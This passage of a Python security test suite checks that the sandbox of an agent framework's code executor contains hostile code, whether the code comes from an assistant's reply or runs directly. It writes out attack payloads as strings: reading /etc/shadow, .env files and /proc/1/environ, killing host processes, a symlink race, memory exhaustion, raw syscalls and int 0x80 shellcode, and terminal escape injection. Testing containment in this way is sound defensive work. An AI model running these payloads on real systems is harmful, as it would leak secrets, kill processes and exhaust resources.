              "except ImportError as exc:\n    print('not importable', exc)")
    run = subprocess.run([sys.executable, "-c", script],
                         cwd=host.project, capture_output=True, text=True, timeout=60, check=False)
    assert "planted package ran" not in run.stdout + run.stderr, run


def _expect_console_clean(host: Host, results: list[Result], executor) -> None:
    from parley import ConversableAgent, UserProxyAgent
    from parley.io import IOQueue, set_default

    ok(results[0], "all tests passed")
    reply = fence([("python", _ESCAPES)])
    assistant = ConversableAgent("assistant\x1b]0;title\x07", llm_config=False, human_input_mode="NEVER", default_auto_reply=reply)
    user = UserProxyAgent("user", human_input_mode="NEVER", max_consecutive_auto_reply=1, code_execution_config={"executor": executor})
    from parley.io.console import console_sink

    stream = IOQueue()
    enabled, console_sink.enabled = console_sink.enabled, True  # the test suite mutes the console
    try:
        with set_default(stream):
            user.initiate_chat(assistant, message="hi\x1b[2J", max_turns=2)
    finally:
        console_sink.enabled = enabled
    printed = stream.output
    assert "all tests passed" in printed and "exitcode: 0" in printed, printed
    bad = sorted({hex(ord(ch)) for ch in printed if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F})
    assert not bad, f"control characters reached the console: {bad}"
    assert "\\x1b]52;c;" in printed and "\\x9b" in printed and "\\x0dforged" in printed, printed


def _start_concurrent_block(host: Host) -> Callable[[], None]:
    from parley import UserProxyAgent

    other = UserProxyAgent("other", human_input_mode="NEVER", code_execution_config={"executor": host.executor})
    code = ("import time\nopen('a_started', 'w').close()\nfor i in range(6):\n    print('a working', i, flush=True)\n"
            "    time.sleep(0.3)\nprint('a finished')")
    thread = threading.Thread(target=lambda: host.extra.update(a=run_turn(host.path, host.executor, other, [("python", code)])))
    thread.start()
    host.extra["a_thread"] = thread
    deadline = time.monotonic() + 30
    while not (host.work_dir / "a_started").exists() and time.monotonic() < deadline:
        time.sleep(0.01)
    return lambda: thread.join(60)


def _expect_concurrent_block_survives(host: Host, results: list[Result]) -> None:
    ok(results[0], "b ran")
    host.extra["a_thread"].join(60)
    assert host.extra.get("a") is not None, "the other chat's block did not finish"
    ok(host.extra["a"], "a finished")

_SWAPPER = """import os, subprocess, sys, time
swap = '''
import os, time
name, target = {name!r}, {target!r}
end = time.time() + 30
while time.time() < end:
    for make in (lambda: os.symlink(target, name), lambda: os.mkfifo(name)):
        try:
            os.unlink(name)
        except OSError:
            pass
        try:
            make()
        except OSError:
            pass
'''
subprocess.Popen([sys.executable, '-c', swap, {marker!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.3)
print('swapper started')
"""

_MEMORY_HOGS = """import os, subprocess, sys
hog = "b = bytearray(150 * 2**20)\\nfor i in range(0, len(b), 4096):\\n    b[i] = 1\\nimport time; time.sleep(2)\\nprint('held')"
procs = [subprocess.Popen([sys.executable, '-c', hog, {marker!r}]) for _ in range(6)]
print('exit codes', [p.wait() for p in procs])
"""

# 40 x 15 MiB in memfd files (each under the file-size limit, none mapped: no address space used),
# then, those closed, 10 x 60 MiB of SysV shared memory, detached: 600 MiB each time, against a
# 256 MiB sandbox.
_MEMFD_HOG = """import ctypes, os
held, fds = 0, []
try:
    for i in range(40):
        fd = os.memfd_create(f'hog{i}')
        os.write(fd, bytes(15 * 2**20))
        fds.append(fd)
        held += 15
    for fd in fds:
        os.close(fd)  # (still held: nothing frees a memfd's pages but closing it; now they are freed)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for i in range(10):  # attached, filled, detached: 60 MiB each stays in the IPC namespace
        shmid = libc.shmget(0, 60 * 2**20, 0o1600)
        address = libc.shmat(shmid, None, 0)
        if shmid < 0 or address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), 'shm')
        ctypes.memset(address, 1, 60 * 2**20)
        libc.shmdt(ctypes.c_void_p(address))
        held += 60
    print('held', held, 'MiB')
except OSError as exc:
    print('stopped at', held, 'MiB:', exc)
"""

# i386 getpid through int 0x80 (outside the sandbox it returns the PID).
_INT80 = """import ctypes, mmap, platform
assert platform.machine() == 'x86_64', platform.machine()
code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 20; int 0x80; ret
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
print('calling', flush=True)
print('int 0x80 returned', ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))(), flush=True)
"""

_READ_SECRETS = """import os
for path in ['.env', '../.env', {project!r} + '/.env', '/etc/shadow', '/root/.bashrc']:
    try:
        print(path, open(path).read())
    except OSError as exc:
        print(path, 'blocked', type(exc).__name__)
print(open('/proc/1/environ').read())
"""

_CONNECT = """import socket, urllib.request
for host in ('127.0.0.1', '::1', 'localhost'):
    try:
        socket.create_connection((host, {port}), timeout=3)
        print(host, 'connected')
    except OSError as exc:
        print(host, 'blocked', type(exc).__name__)
"""

_KILL_HOST = """import os, signal
print('visible', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))
for pid in {pids}:
    try:
        os.kill(pid, signal.SIGKILL)
        print(pid, 'signalled')
    except OSError as exc:
        print(pid, type(exc).__name__)
"""

# x86-64 system call numbers (the suite's platform; aarch64's differ).
_SYSCALLS = """import ctypes, platform
assert platform.machine() == 'x86_64', platform.machine()
libc = ctypes.CDLL(None, use_errno=True)
for name, number, args in {calls}:
    ctypes.set_errno(0)
    rc = libc.syscall(number, *args)
    print(name, rc, 'errno', ctypes.get_errno())
"""

_RAW_SYSCALLS = _SYSCALLS.format(calls="[('bpf', 321, (0, None, 0)), ('perf_event_open', 298, (None, 0, -1, -1, 0)), "
                                        "('userfaultfd', 323, (0,)), ('keyctl', 250, (0, 0)), ('io_uring_setup', 425, (1, None))]")


def _assert(condition, detail) -> None:
    assert condition, detail


def _du_kib(output: str) -> int:
    """The total ``du -sk`` printed (the last line)."""
    return int(output.splitlines()[-1].split()[0])


def _tree_size(path: Path) -> int:
    return sum(f.lstat().st_size for f in path.rglob("*") if f.is_file() and not f.is_symlink())


def _expect_memory_bounded(host: Host, results: list[Result], executor) -> None:
    output = results[0][1]
    cgroup = getattr(executor, "cgroup", None)
    if cgroup is not None and "memory" in cgroup.controllers:
        # Six processes of 150 MiB each fit under a per-process limit of 256 MiB; only a limit on
        # the whole sandbox stops them.
        assert "memory limit of 256 MiB was reached" in output or "-9" in output, results
        assert output.count("held") < 6, results
    else:
        # No cgroup (unprivileged, cgroup v1): each process is bounded by its address-space limit only.
        assert "exit codes" in output or results[0][0] != 0, results


def _expect_memfd_bounded(host: Host, results: list[Result], executor) -> None:
    cgroup = getattr(executor, "cgroup", None)
    output = results[0][1]
    if cgroup is not None and "memory" in cgroup.controllers:
        # Charged to the sandbox's cgroup although no process maps it: stopped under 256 MiB.
        assert "held" not in output, results
        assert "memory limit of 256 MiB was reached" in output or "stopped at" in output, results
    else:
        assert results[0][0] == 0 or "stopped at" in output, results  # fallback: bounded by the timeout only


def _serve(host: Host) -> Callable[[], None]:
    server = socket.create_server(("127.0.0.1", 0))
    host.port = server.getsockname()[1]
    server.settimeout(0.1)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            with contextlib.suppress(TimeoutError, OSError):
                host.accepted.append(server.accept())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()

    def cleanup():
        # The server answers the host itself, so the sandbox's failure to reach it means something.
        with socket.create_connection(("127.0.0.1", host.port), timeout=3):
            pass
        time.sleep(0.3)
        stop.set()
        thread.join()
        server.close()
        assert len(host.accepted) == 1, host.accepted  # only the host's own connection
        host.accepted[0][0].close()
        host.accepted.clear()

    return cleanup


# --- running an attack -------------------------------------------------------------------------------


def fence(blocks: list[tuple[str, str]]) -> str:
    return "Here you go:\n\n" + "\n\n".join(f"```{lang}\n{code}\n```" for lang, code in blocks)


def run_turn(path: str, executor, user, blocks: list[tuple[str, str]]) -> Result:
    """One assistant message's blocks, run straight through the executor or by the agent."""
    from parley.code import CodeBlock

    if path == "direct":
        result = executor.execute_code_blocks([CodeBlock(code, lang) for lang, code in blocks])
        return result.exit_code, result.output
    reply = user.generate_reply(messages=[{"role": "user", "content": fence(blocks)}])
    assert isinstance(reply, str) and reply.startswith("exitcode: "), reply
    head, _, output = reply.partition("\nCode output: ")
    return int(head.split()[1]), output


def run_attack(attack: Attack, path: str, root: Path) -> None:
    """Run ``attack`` the ``path`` way ("direct" or "agent") in a fresh tree under ``root``; raise on harm."""
    from parley import UserProxyAgent, events
    from parley.code import SandboxCodeExecutor

    host = Host(root=root, work_dir=root / "work", marker=f"parley-attack-{secrets.token_hex(6)}")
    cwd = os.getcwd()
    cleanup = None
    mounted = False
    captured = events.capture()
    os.environ["OPENAI_API_KEY"] = SECRET  # in the host's environment: it must not reach the code
    try:
        if attack.default_work_dir:
            os.chdir(host.project)
            from parley.code.factory import WORKING_DIR

            host.work_dir = host.project / WORKING_DIR
        if attack.small_fs is not None:
            _mount_small_fs(host.work_dir, attack.small_fs)
            mounted = True
        options = {**EXECUTOR_OPTIONS, **attack.options}
        if not attack.default_work_dir:
            options["work_dir"] = host.work_dir
        executor = SandboxCodeExecutor(**options)
        assert executor.work_dir == host.work_dir, executor.work_dir
        user = UserProxyAgent("user", human_input_mode="NEVER", code_execution_config={"executor": executor})
        host.executor, host.path, host.events = executor, path, captured.events
        before = snapshot(host)
        captured.__enter__()
        if attack.prepare is not None:
            cleanup = attack.prepare(host)
        results = [run_turn(path, executor, user, blocks) for blocks in attack.turns(host)]
        attack.expect(host, results, executor)
        # The chat goes on: a plain block still runs.
        assert run_turn(path, executor, user, [("python", "print('chat goes on')")]) == (0, "chat goes on\n")
        after = snapshot(host)
        changed = {k: (before.get(k), after.get(k)) for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
        assert not changed, f"host files changed: {changed}"
        cgroup = getattr(executor, "cgroup", None)
        if cgroup is not None:
            # The last sandbox's init takes a few ms to go after the block's result is back.
            deadline = time.monotonic() + 5
            spare = {str(pid) for pid in executor.spare_pids()}  # the next block's sandbox, waiting
            while any(set((d / "cgroup.procs").read_text().split()) - spare for d in cgroup.dirs.values()):
                assert time.monotonic() < deadline, "processes left in the sandbox's cgroup"
                time.sleep(0.01)
        else:
            time.sleep(0.2)
        left = leftover_processes(host.marker, str(host.work_dir), spare=executor.spare_pids())
        assert not left, f"processes left behind: {left}"
        if cgroup is not None:
            memory = cgroup.dirs.get("memory")
            if memory is not None:  # cgroup v1: the peak of the whole sandbox
                assert int((memory / "memory.max_usage_in_bytes").read_text()) <= 256 * 2**20
    finally:
        captured.__exit__()
        if cleanup is not None:
            cleanup()
        os.chdir(cwd)
        os.environ.pop("OPENAI_API_KEY", None)
        if mounted:
            host.executor = host.extra = None  # the executors hold work_dir open
            import gc

            gc.collect()
            subprocess.run(["umount", "-l", str(host.work_dir)], check=False)


def main() -> None:
    """Run every attack both ways as the current user; print {"attack [path]": "ok" | error}."""
    results = {}
    for attack in ATTACKS:
        for path in ("direct", "agent"):
            with tempfile.TemporaryDirectory(prefix="parley-attack-") as tmp:
                try:
                    run_attack(attack, path, Path(tmp))
                    results[f"{attack.name} [{path}]"] = "ok"
                except AttackSkipped as exc:
                    results[f"{attack.name} [{path}]"] = f"skipped: {exc}"
                except BaseException as exc:  # noqa: BLE001 - report every failure, not the first
                    results[f"{attack.name} [{path}]"] = "".join(traceback.format_exception_only(exc)).strip()[-2000:]
    print(json.dumps({"uid": os.geteuid(), "results": results}))


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "src"))
    main()
